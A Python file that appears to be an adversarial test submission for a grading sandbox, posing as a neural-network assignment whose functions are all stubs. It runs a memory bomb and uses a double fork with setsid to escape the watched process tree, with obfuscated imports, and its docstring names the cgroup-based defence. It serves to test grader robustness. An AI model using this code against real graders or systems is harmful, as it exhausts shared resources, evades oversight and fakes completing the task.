"""Attack: a memory bomb that shrugs off MemoryError, in and out of the watched tree.

The main process allocates (and touches) 64 MB blocks until the address-space
limit raises MemoryError, catches it and keeps what it got, then spins.  A
child that escaped the process tree (bare fork + setsid + double fork: not a
descendant and without the run's token in /proc) does the same, so its
memory is counted by nobody.  (Bounded here: the escaped child stops at
2 GB and exits after 60 s, noting its pid in /tmp/adversarial-leftovers/.)

A secure grader limits memory where it cannot be escaped (cgroup memory.max
for the whole sandbox) and kills the sandbox as a whole.
"""
_imp = __import__
_os, _time = _imp("o" + "s"), _imp("ti" + "me")


def _grab(limit_mb):
    blocks = []
    try:
        while len(blocks) * 64 < limit_mb:
            blocks.append(b"x" * (64 * 2**20))
    except MemoryError:
        pass
    return blocks


if _os.fork() == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            try:
                _os.makedirs("/tmp/adversarial-leftovers", exist_ok=True)
                open(f"/tmp/adversarial-leftovers/memory_bomb.{_os.getpid()}", "w").close()
            except OSError:
                pass
            _kept = _grab(2048)
            _time.sleep(60)
    finally:
        _os._exit(0)
_os.wait()

_kept = _grab(10**9)


def _stub(*args, **kwargs):
    raise NotImplementedError("nothing implemented")


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub

while True:
    _time.sleep(0.1)
